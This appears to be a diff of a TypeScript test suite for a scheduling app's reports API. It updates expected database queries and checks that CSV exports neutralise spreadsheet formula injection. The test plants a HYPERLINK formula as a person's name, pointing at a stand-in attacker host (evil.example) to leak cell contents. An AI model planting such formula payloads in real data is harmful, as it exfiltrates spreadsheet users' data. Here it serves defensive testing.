@@ -262,7 +262,10 @@ describe('the number of queries a report makes', () => {
     const seen: string[] = [];
     const watch = (coll: string, method: string, filter: unknown) => {
       // what a report asks for (background workers look up other things, without an organization)
-      if (['series', 'people', 'occurrences', 'agendas', 'homework'].includes(coll) && (filter as Json)?.organizationId)
+      if (
+        ['series', 'people', 'occurrences', 'agendas', 'homework', 'report_facts'].includes(coll) &&
+        (filter as Json)?.organizationId
+      )
         seen.push(`${coll}.${method}`);
     };
     h.scheduling.ctx.models.Series.db.set('debug', watch);
@@ -275,7 +278,8 @@ describe('the number of queries a report makes', () => {
     try {
       const one = await queriesFor(`/v1/reports/cadence?from=2026-01-01&to=2026-12-31&repId=${year.people.repC}`);
       const all = await queriesFor('/v1/reports/cadence?from=2026-01-01&to=2026-12-31');
-      expect(one).toEqual(['agendas.find', 'homework.find', 'occurrences.find', 'people.find', 'series.find']);
+      // agendas and homework through their series' facts (reports/facts/), read by id
+      expect(one).toEqual(['occurrences.find', 'people.find', 'report_facts.find', 'series.find']);
       expect(all).toEqual(one);
     } finally {
       h.scheduling.ctx.models.Series.db.set('debug', false);
@@ -322,7 +326,10 @@ describe('CSV opened in a spreadsheet', () => {
     const name = '=HYPERLINK("https://evil.example/?d="&A1,"Lukas")';
     await org.scheduling.patch(`/v1/people/${year.people.repC}`, { name }).expect(200);
     const path = `/v1/reports/cadence?from=2026-01-01&to=2026-12-31&repId=${year.people.repC}`;
-    const rows = parse((await org.agenda.get(`${path}&format=csv`).expect(200)).text, { columns: true }) as Record<string, string>[];
+    const rows = parse((await org.agenda.get(`${path}&format=csv`).expect(200)).text, { columns: true }) as Record<
+      string,
+      string
+    >[];
     expect(rows.map((r) => r.rep_name)).toEqual([`'${name}`]);
     expect((await org.agenda.get(path).expect(200)).body.pairs[0].rep.name).toBe(name);
   });
